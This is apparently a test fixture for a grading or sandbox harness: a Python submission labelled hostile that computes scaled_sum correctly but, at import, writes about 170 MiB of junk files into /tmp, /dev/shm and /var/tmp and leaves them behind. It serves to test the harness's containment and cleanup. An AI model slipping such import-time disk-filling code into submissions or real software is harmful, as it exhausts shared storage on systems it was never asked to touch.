"""Hostile submission: correct, but fills /tmp and /dev/shm at import, to leave hundreds of MiB behind."""
ATTACK = "is correct, but writes 100 MiB into /tmp, 30 MiB into /dev/shm and 40 MiB into /var/tmp that would stay after the run"
FAILS = []
PASSES = ['test_values', 'test_dtype', 'test_gradient']
MESSAGE = ''

import torch

_chunk = b"\0" * (1 << 20)
for _folder, _mib in (("/tmp", 100), ("/dev/shm", 30), ("/var/tmp", 40)):
    for _i in range(_mib // 8):
        try:
            with open(f"{_folder}/hostile-fill-{_i}.bin", "wb") as _f:
                for _ in range(8):
                    _f.write(_chunk)
        except OSError:
            break


def scaled_sum(x, y, alpha):
    return x + alpha * y
